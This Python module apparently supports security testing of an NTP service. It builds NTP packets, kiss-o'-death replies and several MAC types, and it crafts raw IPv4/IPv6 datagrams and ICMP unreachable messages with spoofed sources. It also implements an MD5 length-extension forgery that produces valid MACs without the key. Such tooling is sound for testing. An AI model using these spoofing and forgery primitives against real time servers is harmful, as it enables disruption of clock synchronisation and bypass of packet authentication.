"""NTP packets, MACs, and IP datagrams with a source of the attacker's choice. Standard library and GnuTLS's AES."""

import ctypes
import dataclasses
import hashlib
import hmac
import math
import os
import socket
import struct

HEADER = struct.Struct("!BBbbIII8s8s8s8s")
UNIX_TO_NTP = 2_208_988_800
NTP_PORT = 123
ZERO = bytes(8)
LAST_FIELD = 28  # octets: the shortest extension field at the end of a packet without MAC (RFC 7822, 7.5.1.4)


def timestamp(nanoseconds):
    """Unix time, ns, in NTP's form; eras wrap."""
    seconds, rest = divmod(nanoseconds, 1_000_000_000)
    return struct.pack("!II", (seconds + UNIX_TO_NTP) & 0xFFFFFFFF, (rest << 32) // 1_000_000_000)


def kiss(code):
    """What makes a reply a kiss-o'-death (RFC 5905, 7.4)."""
    return {"leap": 3, "stratum": 0, "reference_id": int.from_bytes(code.encode(), "big")}


@dataclasses.dataclass
class Header:
    leap: int = 0
    version: int = 4
    mode: int = 4
    stratum: int = 2
    poll: int = 3
    precision: int = -20
    root_delay: int = 0  # 16.16 s
    root_dispersion: int = 64
    reference_id: int = 0x7F7F0101
    reference: bytes = ZERO
    origin: bytes = ZERO
    receive: bytes = ZERO
    transmit: bytes = ZERO

    def octets(self):
        return HEADER.pack(self.leap << 6 | self.version << 3 | self.mode, self.stratum, self.poll, self.precision,
                           self.root_delay, self.root_dispersion, self.reference_id, self.reference, self.origin,
                           self.receive, self.transmit)

    @classmethod
    def of(cls, octets):
        first, *rest = HEADER.unpack_from(octets)
        return cls(first >> 6, first >> 3 & 7, first & 7, *rest)


def request(version=4, **fields):
    return Header(version=version, mode=3, stratum=0, precision=0, root_dispersion=0, reference_id=0,
                  **{"transmit": os.urandom(8), **fields})


def field(kind, size):
    """An extension field of that many octets, header included."""
    return struct.pack("!HH", kind, size) + bytes(size - 4)


# --- MACs: from a key and what is covered to key id and digest

@dataclasses.dataclass
class Key:
    id: int
    algorithm: str  # as in `authentication-mode`
    password: str

    def line(self):
        return f"ntp-service authentication-keyid {self.id} authentication-mode {self.algorithm} {self.password}"

    def is_usable(self):
        """AES has passwords of one length."""
        return len(self.password) == AES_KEY_SIZES.get(self.algorithm, len(self.password))

    def mac(self, covered):
        return struct.pack("!I", self.id) + DIGESTS[self.algorithm](self.password.encode(), covered)


GNUTLS = ctypes.CDLL("libgnutls.so.30")


def cmac(bits):
    algorithm = GNUTLS.gnutls_mac_get_id(f"AES-CMAC-{bits}".encode())

    def digest(key, data):
        tag = ctypes.create_string_buffer(16)
        if GNUTLS.gnutls_hmac_fast(algorithm, key, len(key), data, len(data), tag) != 0:
            raise ValueError(f"no CMAC with a key of {len(key)} octets")
        return tag.raw

    return digest


AES_KEY_SIZES = {"aes-128-cmac": 16, "aes-256-cmac": 32}
DIGESTS = {
    "aes-128-cmac": cmac(128),
    "aes-256-cmac": cmac(256),
    "md5": lambda key, data: hashlib.md5(key + data).digest(),
    "sha1": lambda key, data: hashlib.sha1(key + data).digest(),
    "sha256": lambda key, data: hashlib.sha256(key + data).digest(),
    "hmac-md5": lambda key, data: hmac.new(key, data, hashlib.md5).digest(),
    "hmac-sha256": lambda key, data: hmac.new(key, data, hashlib.sha256).digest(),
}

SHIFTS = (7, 12, 17, 22), (5, 9, 14, 20), (4, 11, 16, 23), (6, 10, 15, 21)
SINES = [int(abs(math.sin(i + 1)) * (1 << 32)) for i in range(64)]


def md5_block(state, block):
    """MD5's compression function (RFC 1321, 3.4), which hashlib does not give away."""
    words = struct.unpack("<16I", block)
    a, b, c, d = state
    for i in range(64):
        if i < 16:
            mixed, word = (b & c) | (~b & d), i
        elif i < 32:
            mixed, word = (d & b) | (~d & c), (5 * i + 1) % 16
        elif i < 48:
            mixed, word = b ^ c ^ d, (3 * i + 5) % 16
        else:
            mixed, word = c ^ (b | (~d & 0xFFFFFFFF)), 7 * i % 16
        total = (a + mixed + SINES[i] + words[word]) & 0xFFFFFFFF
        shift = SHIFTS[i // 16][i % 4]
        a, b, c, d = d, (b + (total << shift | total >> (32 - shift))) & 0xFFFFFFFF, b, c
    return tuple((old + new) & 0xFFFFFFFF for old, new in zip(state, (a, b, c, d)))


def md5_padding(size):
    return b"\x80" + bytes(-(size + 9) % 64) + struct.pack("<Q", 8 * size)


def extend_md5(packet, mac, key_size, tail):
    """A longer packet with a right MD5 MAC, made from a signed one without the key (length extension)."""
    padding = md5_padding(key_size + len(packet))
    data = tail + md5_padding(key_size + len(packet) + len(padding) + len(tail))
    state = struct.unpack("<4I", mac[4:])
    for at in range(0, len(data), 64):
        state = md5_block(state, data[at:at + 64])
    return packet + padding + tail + mac[:4] + struct.pack("<4I", *state)


# --- IP

def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp(source, target, payload):
    """A UDP datagram over IPv4 without checksum, over IPv6 with one. Endpoints are (address, port)."""
    length = 8 + len(payload)
    datagram = struct.pack("!HHHH", source[1], target[1], length, 0) + payload
    if ":" not in source[0]:
        return datagram
    pseudo = socket.inet_pton(socket.AF_INET6, source[0]) + socket.inet_pton(socket.AF_INET6, target[0]) + \
        struct.pack("!II", length, socket.IPPROTO_UDP)
    value = checksum(pseudo + datagram + bytes(length % 2)) or 0xFFFF
    return datagram[:6] + struct.pack("!H", value) + payload


def ipv4(source, target, content, identity=0, offset=0, more=False, protocol=socket.IPPROTO_UDP):
    """An IPv4 packet, or a fragment of one: `offset` in octets, a multiple of 8."""
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(content), identity, more << 13 | offset // 8, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + content


def unreachable(code, source, target, payload):
    """ICMP's complaint about a UDP datagram over IPv4 (type 3, that code), in the name of where it went to."""
    quoted = ipv4(source[0], target[0], udp(source, target, payload))
    message = struct.pack("!BBHI", 3, code, 0, 0) + quoted
    message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
    return ipv4(target[0], source[0], message, protocol=socket.IPPROTO_ICMP)


def ipv6(source, target, content):
    return struct.pack("!IHBB", 6 << 28, len(content), socket.IPPROTO_UDP, 64) + \
        socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target) + content
